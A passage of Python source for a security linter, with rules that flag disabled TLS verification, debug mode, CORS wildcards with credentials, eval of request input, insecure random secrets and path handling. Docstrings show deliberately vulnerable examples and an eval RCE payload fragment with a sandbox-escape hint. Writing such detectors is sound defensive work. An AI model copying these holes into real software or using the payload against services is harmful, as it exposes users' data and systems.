def tls_verification_disabled(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags code that turns off TLS certificate checks: `verify=False` on `requests`/`httpx`
    calls, clients and sessions (`session.verify = False`), aiohttp `ssl=False` /
    `verify_ssl=False`, `cert_reqs=ssl.CERT_NONE`, `ssl._create_unverified_context()`, and SSL
    contexts given `check_hostname = False` or `verify_mode = ssl.CERT_NONE`.
    `urllib3.disable_warnings()` is reported with low severity. Functions that take a
    verification setting as a parameter (clients implementing a `verify=` option) and test
    files are skipped.

    ## Why it breaks production
    Without certificate verification, anyone on the network path -- a compromised proxy, a
    malicious Wi-Fi, a neighbour in the cloud VPC, DNS spoofing -- can impersonate the upstream,
    read the API keys and customer data you send and return whatever responses they like. The
    connection still looks encrypted, so nothing in monitoring shows it.

    ## Example
    ```python
    resp = requests.post(f"{BILLING_URL}/charges", json=charge, verify=False, timeout=10)
    ```

    ## Use instead
    ```python
    resp = requests.post(
        f"{BILLING_URL}/charges", json=charge, verify="/etc/ssl/billing-ca.pem", timeout=10
    )
    ```
    """
    if ctx.facts.is_test:
        return
    if isinstance(node, ast.Attribute):
        if not _verification_is_an_option(ctx):
            ctx.report(
                node,
                "ssl._create_unverified_context() skips certificate and hostname checks: any "
                "machine on the path can impersonate the server. Use ssl.create_default_context()",
            )
        return
    if isinstance(node, ast.Assign):
        _tls_assignment(node, ctx)
        return
    assert isinstance(node, ast.Call)
    name = ctx.call_name or ""
    if name.endswith("disable_warnings"):
        if name.startswith(("urllib3.", "requests.packages.urllib3.")):
            category = argument(node, 0, "category")
            if category is None or (dotted(category) or "").endswith("InsecureRequestWarning"):
                ctx.report(
                    node,
                    "InsecureRequestWarning silenced: the warning exists because some request "
                    "skips certificate verification -- fix that request instead",
                    severity=Severity.LOW,
                    confidence=Confidence.MEDIUM,
                )
        return
    if not node.keywords:
        return
    for item in node.keywords:
        if item.arg not in _TLS_KEYWORDS:
            continue
        if item.arg == "verify" and _false_value(item.value, ctx):
            message = "verify=False turns off certificate verification"
        elif item.arg == "verify_ssl" and _false_value(item.value, ctx):
            message = "verify_ssl=False turns off certificate verification"
        elif item.arg == "ssl" and _false_value(item.value, ctx) and _aiohttp_call(name, ctx):
            message = "ssl=False turns off certificate verification"
        elif item.arg in {"cert_reqs", "verify_mode"} and _cert_none(item.value, ctx):
            message = f"{item.arg}=CERT_NONE turns off certificate verification"
        else:
            continue
        if _verification_is_an_option(ctx):
            return
        ctx.report(
            node,
            f"{message}: anyone on the network path can impersonate the server and read or "
            "change the traffic. Keep verification on (verify='/path/ca.pem' for a private CA)",
        )
        return


_TLS_KEYWORDS = frozenset({"verify", "verify_ssl", "ssl", "cert_reqs", "verify_mode"})


def _aiohttp_call(name: str, ctx: PythonContext) -> bool:
    return name.startswith("aiohttp.") or "aiohttp" in ctx.facts.frameworks


def _tls_assignment(node: ast.Assign, ctx: PythonContext) -> None:
    for target in node.targets:
        if not isinstance(target, ast.Attribute):
            continue
        attr = target.attr
        if attr == "verify" and _false_value(node.value, ctx):
            owner = (ctx.qualname(target.value) or dotted(target.value) or "").lower()
            if not any(word in owner for word in ("session", "client", "requests", "httpx")):
                continue
            message = f"{dotted(target) or 'session.verify'} = False turns off certificate checks"
        elif attr == "verify_mode" and _cert_none(node.value, ctx):
            message = "verify_mode = CERT_NONE turns off certificate verification"
        elif attr == "check_hostname" and _false_value(node.value, ctx):
            owner = ctx.qualname(target.value) or ""
            if not owner.startswith("ssl."):
                continue
            message = "check_hostname = False accepts any valid certificate for any host"
        elif attr == "cert_reqs" and _cert_none(node.value, ctx):
            message = "cert_reqs = CERT_NONE turns off certificate verification"
        else:
            continue
        if _verification_is_an_option(ctx):
            return
        reported: set[str] = ctx.rule_state(set)
        owner_text = dotted(target.value) or ""
        if owner_text in reported:
            return  # ``check_hostname = False`` then ``verify_mode = CERT_NONE``: one finding
        reported.add(owner_text)
        ctx.report(
            node,
            f"{message}: anyone on the network path can impersonate the server. Keep the "
            "default verification (load a private CA with load_verify_locations())",
        )
        return


# -- SEC010 ------------------------------------------------------------------------------------

_APP_RUN = ("flask.Flask.run", "quart.Quart.run", "*.run")
_APP_FACTORIES = ("fastapi.FastAPI", "starlette.applications.Starlette", "starlette.Starlette")
_RUN_SIMPLE = ("werkzeug.run_simple", "werkzeug.serving.run_simple")


def _settings_module(path: str) -> bool:
    parts = path.split("/")
    return parts[-1].startswith("settings") or (len(parts) > 1 and parts[-2] == "settings")


def _flask_app(expr: ast.AST, ctx: PythonContext) -> bool:
    name = ctx.qualname(expr) or ""
    if name.startswith(("flask.Flask", "quart.Quart")):
        return True
    return (dotted(expr) or "") in {"app", "application", "self.app"} and not name.startswith(
        ("fastapi.", "starlette.", "aiohttp.")
    )


@python_rule(
    code="SEC010",
    name="debug-mode-enabled",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="Framework debug mode switched on in code that can run in production",
    calls=(*_APP_RUN, *_APP_FACTORIES, *_RUN_SIMPLE, "uvicorn.run", "*.update", "*.from_mapping"),
    nodes=(ast.Assign,),
    cwe=489,
    fix="Read it from the environment, default off: debug=os.getenv('APP_DEBUG') == '1'.",
)
def debug_mode_enabled(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags debug mode switched on in code: Flask `app.run(debug=True)`, `app.debug = True`,
    `app.config["DEBUG"] = True`; Django `DEBUG = True` in a settings module (not in
    `dev`/`local`/`test` settings files); `FastAPI(debug=True)` / `Starlette(debug=True)`;
    werkzeug `run_simple(..., use_debugger=True)`; and, with medium severity, the
    auto-reloading development server `uvicorn.run(..., reload=True)`. `app.run(debug=True)`
    under `if __name__ == "__main__":` is reported with medium confidence.

    ## Why it breaks production
    Flask/Werkzeug's debugger gives anyone who can trigger an error an interactive Python
    console in the server process -- remote code execution. Django and Starlette debug pages
    show source code, settings, environment variables and SQL to every visitor, and Django
    keeps every query in memory. The reloader watches the file system and restarts workers
    under load.

    ## Example
    ```python
    app = Flask(__name__)

    if __name__ == "__main__":
        app.run(host="0.0.0.0", port=8000, debug=True)
    ```

    ## Use instead
    ```python
    app = Flask(__name__)
    app.config["DEBUG"] = os.getenv("FLASK_DEBUG") == "1"
    # production: gunicorn -w 4 -b 0.0.0.0:8000 app:app
    ```
    """
    if ctx.facts.is_test or ctx.facts.is_example:
        return
    if isinstance(node, ast.Assign):
        _debug_assignment(node, ctx)
        return
    assert isinstance(node, ast.Call)
    name = ctx.call_name or ""
    func = node.func
    if name in _APP_FACTORIES:
        if is_true(keyword_value(node, "debug")):
            ctx.report(
                node,
                f"{name.rsplit('.', 1)[-1]}(debug=True) serves tracebacks with source code and "
                "local values to every client: read the flag from the environment, default off",
            )
        return
    if name in _RUN_SIMPLE:
        if is_true(keyword_value(node, "use_debugger")) or is_true(argument(node, 4, None)):
            ctx.report(
                node,
                "run_simple(use_debugger=True) exposes the Werkzeug debugger, an interactive "
                "Python console for anyone who triggers an error: remove it in production",
            )
        return
    if name == "uvicorn.run":
        if is_true(keyword_value(node, "reload")):
            ctx.report(
                node,
                "uvicorn.run(reload=True) starts the auto-reloading development server: it "
                "watches files, runs one worker and restarts on changes. Run `uvicorn app:app "
                "--workers N` (or gunicorn) in production and keep reload for local use",
                severity=Severity.MEDIUM,
                confidence=Confidence.MEDIUM,
            )
        return
    if not isinstance(func, ast.Attribute):
        return
    if func.attr == "run":
        if is_true(keyword_value(node, "debug")) and _flask_app(func.value, ctx):
            ctx.report(
                node,
                "app.run(debug=True) starts the development server with the interactive "
                "debugger, a Python console for anyone who triggers an error (remote code "
                "execution). Serve with gunicorn and read debug from the environment, default off",
                confidence=Confidence.MEDIUM if ctx.in_main_guard else Confidence.HIGH,
            )
        return
    if (
        func.attr in {"update", "from_mapping"}
        and isinstance(func.value, ast.Attribute)
        and func.value.attr == "config"
        and _flask_app(func.value.value, ctx)
        and is_true(keyword_value(node, "DEBUG"))
    ):
        ctx.report(
            node,
            "Flask config DEBUG=True enables the interactive debugger and tracebacks for "
            "every client: read it from the environment, default off",
        )


def _debug_assignment(node: ast.Assign, ctx: PythonContext) -> None:
    if not is_true(node.value):
        return
    for target in node.targets:
        if isinstance(target, ast.Name) and target.id == "DEBUG":
            if (
                ctx.function is None
                and not ctx.classes
                and _settings_module(ctx.path)
                and not _dev_settings_file(ctx.path)
            ):
                ctx.report(
                    node,
                    "DEBUG = True in a settings module: Django then shows settings, source and "
                    "SQL on every error page and keeps every query in memory. Read it from the "
                    "environment, default False",
                    confidence=Confidence.MEDIUM,
                )
        elif isinstance(target, ast.Attribute) and target.attr == "debug":
            if _flask_app(target.value, ctx):
                ctx.report(
                    node,
                    "app.debug = True enables the Werkzeug debugger (remote code execution for "
                    "anyone who triggers an error): read it from the environment, default off",
                )
        elif isinstance(target, ast.Subscript) and constant_str(target.slice) == "DEBUG":
            owner = target.value
            if (
                isinstance(owner, ast.Attribute)
                and owner.attr == "config"
                and _flask_app(owner.value, ctx)
            ):
                ctx.report(
                    node,
                    'app.config["DEBUG"] = True enables the interactive debugger and '
                    "tracebacks for every client: read it from the environment, default off",
                )


# -- SEC011 ------------------------------------------------------------------------------------

_ANY_ORIGIN_PROBE = "https://attacker.example"


def _module_value(name: str, ctx: PythonContext) -> ast.expr | None:
    """The value last assigned to a module-level name (lists and dicts included)."""
    cache: dict[str, ast.expr] | None = ctx.module_state.get("security:module-values")
    if cache is None:
        cache = {}
        for statement in ctx.tree.body:
            if isinstance(statement, ast.Assign):
                for target in statement.targets:
                    if isinstance(target, ast.Name):
                        cache[target.id] = statement.value
            elif (
                isinstance(statement, ast.AnnAssign)
                and statement.value is not None
                and isinstance(statement.target, ast.Name)
            ):
                cache[statement.target.id] = statement.value
        ctx.module_state["security:module-values"] = cache
    return cache.get(name)


def _resolve(expr: ast.expr | None, ctx: PythonContext) -> ast.expr | None:
    if isinstance(expr, ast.Name):
        return ctx.value_of(expr.id) or _module_value(expr.id, ctx) or expr
    return expr


def _allows_any_origin(origins: ast.expr | None, ctx: PythonContext) -> bool:
    origins = _resolve(origins, ctx)
    if constant_str(origins) == "*":
        return True
    if isinstance(origins, ast.List | ast.Tuple | ast.Set):
        return any(constant_str(e) == "*" for e in origins.elts)
    return False


def _regex_allows_any(pattern: ast.expr | None, ctx: PythonContext) -> bool:
    text = constant_str(_resolve(pattern, ctx))
    if text is None:
        return False
    try:
        return re.fullmatch(text, _ANY_ORIGIN_PROBE) is not None
    except re.error:
        return False


_CORS_MESSAGE = (
    "any website can make credentialed requests to this API and read the responses (the "
    "wildcard is answered by echoing the caller's Origin): list the allowed origins explicitly"
)


@python_rule(
    code="SEC011",
    name="cors-wildcard-with-credentials",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="CORS allows any origin together with credentials (cookies, Authorization)",
    calls=(
        "*.add_middleware",
        "starlette.middleware.Middleware",
        "fastapi.middleware.Middleware",
        "flask_cors.CORS",
        "flask_cors.cross_origin",
    ),
    nodes=(ast.Module,),
    cwe=942,
    fix='allow_origins=["https://app.example.com"] (from configuration), not ["*"].',
)
def cors_wildcard_with_credentials(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags CORS configurations that allow every origin *and* credentials: Starlette/FastAPI
    `CORSMiddleware` with `allow_origins=["*"]` (or an `allow_origin_regex` matching any origin)
    and `allow_credentials=True`; flask-cors `CORS(app, supports_credentials=True)` or
    `@cross_origin(supports_credentials=True)` with the default or `"*"` origins; Django
    settings with `CORS_ALLOW_ALL_ORIGINS = True` (or `CORS_ORIGIN_ALLOW_ALL`) and
    `CORS_ALLOW_CREDENTIALS = True`.

    ## Why it breaks production
    Browsers refuse `Access-Control-Allow-Origin: *` with credentials, so these libraries echo
    the caller's `Origin` header instead. Every website a logged-in user visits can then call
    the API with the user's cookies and read the answers: account data, tokens, CSRF-protected
    actions.

    ## Example
    ```python
    app.add_middleware(
        CORSMiddleware, allow_origins=["*"], allow_credentials=True, allow_methods=["*"]
    )
    ```

    ## Use instead
    ```python
    app.add_middleware(
        CORSMiddleware,
        allow_origins=settings.cors_origins,  # ["https://app.example.com"]
        allow_credentials=True,
        allow_methods=["GET", "POST"],
    )
    ```
    """
    if ctx.facts.is_test:
        return
    if isinstance(node, ast.Module):
        _django_cors(ctx)
        return
    assert isinstance(node, ast.Call)
    name = ctx.call_name or ""
    if name.startswith("flask_cors."):
        if not is_true(_resolve(keyword_value(node, "supports_credentials"), ctx)):
            return
        if has_star_kwargs(node) or keyword_value(node, "resources") is not None:
            return
        origins = keyword_value(node, "origins")
        if origins is None or _allows_any_origin(origins, ctx):
            ctx.report(
                node,
                f"flask-cors with supports_credentials=True and every origin allowed: "
                f"{_CORS_MESSAGE}",
            )
        return
    if not node.args or has_star_kwargs(node):
        return
    middleware = node.args[0]
    if not (dotted(middleware) or "").endswith("CORSMiddleware"):
        return
    if not is_true(_resolve(keyword_value(node, "allow_credentials"), ctx)):
        return
    if _allows_any_origin(keyword_value(node, "allow_origins"), ctx) or _regex_allows_any(
        keyword_value(node, "allow_origin_regex"), ctx
    ):
        ctx.report(
            node,
            f"CORSMiddleware allows every origin with allow_credentials=True: {_CORS_MESSAGE}",
        )


def _django_cors(ctx: PythonContext) -> None:
    constants = ctx.facts.constants
    credentials = constants.get("CORS_ALLOW_CREDENTIALS")
    if not is_true(credentials):
        return
    for name in ("CORS_ALLOW_ALL_ORIGINS", "CORS_ORIGIN_ALLOW_ALL"):
        value = constants.get(name)
        if is_true(value) and value is not None:
            ctx.report(
                value,
                f"{name} = True with CORS_ALLOW_CREDENTIALS = True: {_CORS_MESSAGE} "
                "(CORS_ALLOWED_ORIGINS)",
            )


# -- SEC012 ------------------------------------------------------------------------------------


@python_rule(
    code="SEC012",
    name="eval-of-dynamic-input",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="eval/exec/compile of data that comes from a request, the network or a cache",
    calls=("builtins.eval", "builtins.exec", "builtins.compile"),
    nodes=(ModuleEnd,),
    cwe=95,
    fix="Parse data, do not run it: json.loads, ast.literal_eval, or a small expression parser.",
)
def eval_of_dynamic_input(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `eval()`, `exec()` and `compile()` of values that come from outside the process:
    request data, parameters of an HTTP handler, HTTP responses, socket reads, message payloads
    or cache reads, followed through local variables and helper functions of the module (also
    a helper that evaluates its parameter when a handler passes request data to it). Code
    generation from constants -- as ORMs and dataclass-like libraries do -- is not reported.

    ## Why it breaks production
    `eval` of client input is remote code execution: `__import__('os').system('...')` runs with
    the service's credentials. Restricting `__builtins__` does not help -- sandbox escapes
    through `().__class__.__mro__` are well known.

    ## Example
    ```python
    @app.get("/calc")
    def calc(expr: str):
        return {"result": eval(expr)}
    ```

    ## Use instead
    ```python
    @app.get("/calc")
    def calc(expr: str):
        return {"result": safe_arithmetic(expr)}  # an ast-based evaluator of + - * / only
    ```
    For literals (numbers, lists, dicts) use `ast.literal_eval`; for data use `json.loads`.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call) or not node.args:
        return
    code = node.args[0]
    if is_literal(code):
        return
    name = (ctx.call_name or "eval").rsplit(".", 1)[-1]

    def report(source: str) -> None:
        ctx.report(
            node,
            f"{name}() of {source}: whoever controls it runs arbitrary code in this process. "
            "Parse the data instead (json.loads, ast.literal_eval, a whitelisted expression "
            "parser)",
        )

    sink_flow([code], ctx, report)  # downloaded or cached code counts too: it is run


# -- SEC013 ------------------------------------------------------------------------------------

_INSECURE_RANDOM = (
    "random.random",
    "random.randint",
    "random.choice",
    "random.choices",
    "random.getrandbits",
    "random.sample",
    "random.randrange",
    "random.randbytes",
    "uuid.uuid1",
)
_SECRET_NOUNS = frozenset(
    {"token", "password", "passwd", "otp", "nonce", "salt", "secret", "passcode", "csrf"}
    | {"apikey", "totp", "hotp", "passphrase"}
)
_SECRET_PAIRS = frozenset(
    {("session", "id"), ("session", "key"), ("reset", "code"), ("verification", "code")}
    | {("verify", "code"), ("confirm", "code"), ("confirmation", "code"), ("auth", "code")}
    | {("api", "key"), ("secret", "key"), ("access", "key"), ("invite", "code")}
    | {("activation", "code"), ("activation", "key"), ("mfa", "code"), ("login", "code")}
    | {("one", "time"), ("magic", "link"), ("signing", "key"), ("encryption", "key")}
    | {("security", "code"), ("sms", "code"), ("email", "code"), ("recovery", "code")}
    | {("pin", "code"), ("pin", "number")}
)
_NOT_SECRET_TAILS = frozenset(
    {"index", "idx", "count", "length", "len", "size", "type", "kind", "delay", "jitter"}
    | {"sleep", "wait", "timeout", "interval", "ttl", "expiry", "expires", "position", "pos"}
    | {"offset", "weight", "prob", "probability", "rate", "ratio", "limit", "max", "min"}
    | {"tries", "attempts", "retries", "name", "field", "url", "header", "path", "list", "pool"}
    | {"chars", "alphabet", "charset", "characters", "digits", "letters", "cost", "usage"}
    | {"budget", "bucket", "provider", "model", "estimate", "estimator", "counter"}
)


def secret_purpose(name: str) -> bool:
    """A name that says its value must be unguessable: ``token``, ``reset_code``, ``otp``,
    ``session_id``, ``api_key``, ``generate_password``, ``salt``... (not ``token_count``)."""
    words = name_words(name)
    if not words or words[-1] in _NOT_SECRET_TAILS:
        return False
    if _SECRET_NOUNS.intersection(words):
        return True
    pairs = set(itertools.pairwise(words))
    return bool(pairs & _SECRET_PAIRS) or "sid" in words or words == ["pin"]


def _contains(outer: ast.AST, inner: ast.AST) -> bool:
    start = (getattr(outer, "lineno", 0), getattr(outer, "col_offset", 0))
    end = (getattr(outer, "end_lineno", 0), getattr(outer, "end_col_offset", 0))
    point = (getattr(inner, "lineno", -1), getattr(inner, "col_offset", -1))
    return start <= point < end


def _imports_random(ctx: PythonContext) -> bool:
    return _imports(ctx, ("random", "uuid"))


@python_rule(
    code="SEC013",
    name="insecure-random-for-secret",
    category=Category.SECURITY,
    severity=Severity.MEDIUM,
    summary="Token, password, OTP or salt generated with the non-cryptographic random module",
    calls=_INSECURE_RANDOM,
    nodes=(ast.Assign, ast.AnnAssign, ast.Dict, ast.keyword),
    cwe=330,
    fix="Use the secrets module: secrets.token_urlsafe(32), secrets.choice(), secrets.randbelow().",
)
def insecure_random_for_secret(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `random.random/randint/choice/choices/getrandbits/sample/randrange` and `uuid.uuid1`
    when the value is a secret: it is assigned to a name such as `token`, `reset_code`, `otp`,
    `salt`, `session_id` or `api_key`, stored under such a key (`{"token": ...}`,
    `User(reset_token=...)`), or produced inside a function such as `generate_token` or
    `make_password`. Random sampling, shuffling, jitter and `random.seed` are not reported.

    ## Why it breaks production
    `random` is a Mersenne Twister: after observing about 600 outputs (or a few tokens) an
    attacker can compute every past and future value, and `uuid1` is a timestamp plus the
    host's MAC address. Password-reset links, one-time codes and session ids generated this way
    can be predicted -- account takeover without guessing.

    ## Example
    ```python
    def create_reset_token(user: User) -> str:
        token = "".join(random.choices(string.ascii_letters + string.digits, k=32))
        user.reset_token = token
        return token
    ```

    ## Use instead
    ```python
    def create_reset_token(user: User) -> str:
        token = secrets.token_urlsafe(32)
        user.reset_token = token
        return token
    ```
    """
    if ctx.facts.is_test or not _imports_random(ctx):
        return
    state: dict[str, list[Any]] = ctx.rule_state(lambda: {"pending": [], "spans": []})
    if isinstance(node, ast.Dict):
        for key, value in zip(node.keys, node.values, strict=True):
            label = constant_str(key)
            if label is not None and secret_purpose(label):
                state["spans"].append((value, label))
        return
    if isinstance(node, ast.keyword):
        if node.arg is not None and secret_purpose(node.arg):
            state["spans"].append((node.value, node.arg))
        return
    if isinstance(node, ast.Assign | ast.AnnAssign):
        pending = state["pending"]
        if not pending or node.value is None:
            return
        targets = node.targets if isinstance(node, ast.Assign) else [node.target]
        names = [n for n in (_target_name(t) for t in targets) if n is not None]
        for call in [c for c in pending if _contains(node.value, c)]:
            pending.remove(call)
            label = next((n for n in names if secret_purpose(n)), None)
            if label is not None and not _bare_numeric_token(label, call):
                _report_random(call, label, ctx)
        return
    assert isinstance(node, ast.Call)
    if not _generates_characters(node, ctx) or _secrets_fallback(node, ctx):
        return
    scope = ctx.function
    if scope is not None and secret_purpose(scope.name):
        _report_random(node, scope.name, ctx)
        return
    for span, label in state["spans"]:
        if _contains(span, node):
            _report_random(node, label, ctx)
            return
    state["pending"].append(node)


_PICKERS = frozenset({"choice", "choices", "sample"})


def _secrets_fallback(call: ast.Call, ctx: PythonContext) -> bool:
    """``try: from secrets import randbits / except ImportError: from random import
    getrandbits as randbits``: the name is the secure one wherever ``secrets`` exists."""
    if not isinstance(call.func, ast.Name):
        return False
    names: set[str] | None = ctx.module_state.get("SEC013:secrets")
    if names is None:
        names = set()
        pending: list[ast.stmt] = list(ctx.tree.body)
        while pending:
            statement = pending.pop()
            if isinstance(statement, ast.ImportFrom) and statement.module == "secrets":
                names.update(alias.asname or alias.name for alias in statement.names)
            elif isinstance(statement, ast.Try | ast.If):
                pending.extend(statement.body)
                pending.extend(statement.orelse)
                if isinstance(statement, ast.Try):
                    pending.extend(s for handler in statement.handlers for s in handler.body)
        ctx.module_state["SEC013:secrets"] = names
    return call.func.id in names


_CHARSET_HINTS = ("char", "alphabet", "letters", "digits", "symbols", "charset", "pool")


def _generates_characters(call: ast.Call, ctx: PythonContext) -> bool:
    """Numbers and bits are always material for secrets; ``choice``/``choices``/``sample``
    only when they pick from a character set (not an element of a list of candidates)."""
    func = call.func
    method = func.attr if isinstance(func, ast.Attribute) else (ctx.call_name or "").split(".")[-1]
    if method not in _PICKERS:
        return True
    population = argument(call, 0, "population") or argument(call, None, "seq")
    return population is not None and _charset(population, ctx, 0)


def _charset(expr: ast.expr, ctx: PythonContext, depth: int) -> bool:
    if depth > 4:
        return False
    if isinstance(expr, ast.Constant):
        return isinstance(expr.value, str)
    if isinstance(expr, ast.JoinedStr):
        return True
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Add):
        return _charset(expr.left, ctx, depth + 1) or _charset(expr.right, ctx, depth + 1)
    if isinstance(expr, ast.Attribute):
        return (ctx.qualname(expr) or "").startswith("string.") or any(
            hint in expr.attr.lower() for hint in _CHARSET_HINTS
        )
    if isinstance(expr, ast.List | ast.Tuple):
        return bool(expr.elts) and all(len(constant_str(e) or "..") == 1 for e in expr.elts)
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        if value is not None and value is not expr:
            return _charset(value, ctx, depth + 1)
        return any(hint in expr.id.lower() for hint in _CHARSET_HINTS)
    return False


def _bare_numeric_token(label: str, call: ast.Call) -> bool:
    """``token = random.randrange(n)`` alone names a MIME boundary or a lexer token as often as
    a credential: only a generated string of characters counts then."""
    func = call.func
    method = func.attr if isinstance(func, ast.Attribute) else dotted(func) or ""
    return name_words(label) == ["token"] and method.rsplit(".", 1)[-1] not in _PICKERS


def _report_random(call: ast.Call, purpose: str, ctx: PythonContext) -> None:
    name = ctx.qualname(call.func) or "random"
    ctx.report(
        call,
        f"{name}() is not cryptographically secure and generates a secret here (`{purpose}`): "
        "its output can be predicted from a few observed values. Use secrets.token_urlsafe(), "
        "secrets.choice() or secrets.randbelow()",
    )


# -- shared: URLs whose host is fixed ----------------------------------------------------------

# Literal text before a value that fixes where a URL points: ``https://api.example.com/...``,
# a placeholder for a trusted value followed by ``/`` (``f"{API_BASE}/users/{uid}"``), an
# absolute path (not ``//``), a query or fragment, a relative path.
_HOST_FIXED = re.compile(
    r"^(?:[a-zA-Z][a-zA-Z0-9+.-]*://[^/?#@\\\s\x00]+[/?#]"
    r"|\x00+[/?#]"
    r"|/(?![/\\])"
    r"|[?#]"
    r"|[\w.~-]+[/?#])"
)


def _host_deciding(url: ast.expr, ctx: PythonContext) -> list[ast.expr]:
    """The values interpolated into a URL before its host is fixed by literal text: only
    those decide where the request (or the browser) goes."""
    deciding: list[ast.expr] = []
    prefix = ""
    for piece in _pieces(url, ctx, {}):
        if isinstance(piece, str):
            prefix += piece
            continue
        if _HOST_FIXED.match(prefix):
            break
        if not _helper_fixes_host(piece, ctx):
            deciding.append(piece)
        prefix += "\x00"
    return deciding


def _helper_fixes_host(expr: ast.expr, ctx: PythonContext) -> bool:
    """A call of a module helper (or a name bound to one) whose every return builds a URL
    on a fixed host: ``def item_url(item_id): return f"{API_BASE}/items/{item_id}"``."""
    for _ in range(_MAX_DEPTH):
        if not isinstance(expr, ast.Name):
            break
        value = ctx.value_of(expr.id)
        if value is None:
            return False
        expr = value
    if not isinstance(expr, ast.Call):
        return False
    helper = _module_helper(expr, ctx)
    if helper is None:
        return False
    params = {a.arg for a in [*helper.args.posonlyargs, *helper.args.args, *helper.args.kwonlyargs]}
    returns = [n.value for n in ast.walk(helper) if isinstance(n, ast.Return) and n.value]
    if not returns:
        return False
    for value in returns:
        if not isinstance(value, ast.JoinedStr | ast.BinOp | ast.Call):
            return False
        prefix = ""
        for piece in _pieces(value, ctx, {}):
            if isinstance(piece, str):
                prefix += piece
                continue
            if _HOST_FIXED.match(prefix):
                break
            if any(isinstance(n, ast.Name) and n.id in params for n in ast.walk(piece)):
                return False  # a parameter decides the host
            prefix += "\x00"
        if not _HOST_FIXED.match(prefix):
            return False
    return True


# -- SEC014 ------------------------------------------------------------------------------------

_OPEN_FUNCTIONS = ("builtins.open", "io.open", "os.open", "codecs.open", "aiofiles.open")
_DELETE_FUNCTIONS = ("os.remove", "os.unlink")
# Functions whose path may name a directory, where ``..`` alone is enough to do harm.
_TREE_FUNCTIONS = (
    *("shutil.rmtree", "shutil.copytree", "shutil.move", "shutil.copy", "shutil.copy2"),
    *("shutil.copyfile", "os.rmdir", "os.removedirs", "os.rename", "os.replace"),
)
_SEND_FILE = (
    "flask.send_file",
    "flask.helpers.send_file",
    "werkzeug.utils.send_file",
    "quart.send_file",
    "starlette.responses.FileResponse",
    "fastapi.responses.FileResponse",
    "fastapi.FileResponse",
)
_PATH_METHODS = frozenset(
    {"open", "read_text", "read_bytes", "write_text", "write_bytes", "unlink", "rmdir"}
)
_PATH_TYPES = ("pathlib.", "anyio.Path", "aiopath.", "trio.Path")
_PATH_DERIVING_METHODS = frozenset(
    {"resolve", "absolute", "joinpath", "with_name", "with_suffix", "expanduser", "with_stem"}
)
_PATH_SANITIZERS = frozenset(
    {"werkzeug.utils.secure_filename", "werkzeug.secure_filename", "secure_filename"}
    | {"os.path.basename", "posixpath.basename", "ntpath.basename", "os.path.splitext[1]"}
    | {
        f"pathlib.{kind}.{part}"
        for kind in ("Path", "PurePath", "PurePosixPath")
        for part in ("name", "stem", "suffix")
    }
    | {"django.utils.text.get_valid_filename", "django.utils.text.slugify", "slugify"}
    | {"get_valid_filename", PATH_CONTAINMENT_CHECK}
    # join under a base directory, refusing paths that leave it
    | {"django.utils._os.safe_join", "werkzeug.utils.safe_join", "werkzeug.security.safe_join"}
    | {"flask.safe_join", "safe_join"}
    # server-generated names (a prefix/suffix cannot leave the random directory entry)
    | {f"tempfile.{name}" for name in ("NamedTemporaryFile", "mkstemp", "mkdtemp", "mktemp")}
    | {"tempfile.TemporaryDirectory", "tempfile.SpooledTemporaryFile", "tempfile.gettempdir"}
    # Django's UploadedFile.name is already reduced to its base name.
    | {"request.FILES"}
)


def _is_path_object(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> bool:
    """``Path(...)``, a name bound to one, ``BASE / name``, ``path.resolve()``..."""
    if depth > _MAX_DEPTH:
        return False
    qualified = ctx.qualname(expr) if isinstance(expr, ast.Name | ast.Attribute) else None
    if isinstance(expr, ast.Call):
        qualified = ctx.qualname(expr.func)
        if (
            isinstance(expr.func, ast.Attribute)
            and expr.func.attr in _PATH_DERIVING_METHODS
            and _is_path_object(expr.func.value, ctx, depth + 1)
        ):
            return True
        helper = _module_helper(expr, ctx)
        if helper is not None:  # ``def report_path(name) -> Path: return REPORTS / name``
            returns = ctx.qualname(helper.returns) if helper.returns is not None else None
            if returns is not None and returns.startswith(_PATH_TYPES):
                return True
            return any(
                isinstance(n, ast.Return)
                and n.value is not None
                and _is_path_object(n.value, ctx, depth + 1)
                for n in ast.walk(helper)
            )
    if qualified is not None and qualified.startswith(_PATH_TYPES):
        return True
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Div):
        return _is_path_object(expr.left, ctx, depth + 1)
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        return value is not None and _is_path_object(value, ctx, depth + 1)
    return False


def _is_upload(expr: ast.AST, ctx: PythonContext, depth: int = 0) -> bool:
    """A Werkzeug ``FileStorage``: ``request.files["f"]``, or a name bound to one."""
    if depth > _MAX_DEPTH:
        return False
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        return value is not None and _is_upload(value, ctx, depth + 1)
    node: ast.AST = expr
    while isinstance(node, ast.Subscript | ast.Call | ast.Attribute):
        if isinstance(node, ast.Attribute) and node.attr == "files":
            qualified = ctx.qualname(node) or ""
            return qualified.startswith(("flask.request.", "quart.request.")) or (
                isinstance(node.value, ast.Name) and node.value.id in {"request", "req"}
            )
        node = node.func if isinstance(node, ast.Call) else node.value
    return False


_JOIN_FUNCTIONS = frozenset(
    {"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath"}
    | {"pathlib.PurePosixPath"}
)


def _path_components(path: ast.expr, ctx: PythonContext, depth: int = 0) -> list[ast.expr]:
    """The values that can introduce ``/`` or ``..`` into a path: each joined part, minus the
    values glued after other text in the same component (``f"{uuid4()}_{f.filename}"``
    names a file inside the directory whatever the client sends)."""
    if depth > _MAX_DEPTH:
        return [path]
    if isinstance(path, ast.Name):
        value = ctx.value_of(path.id)
        if isinstance(value, ast.Call | ast.BinOp | ast.JoinedStr):
            return _path_components(value, ctx, depth + 1)
        return [path]
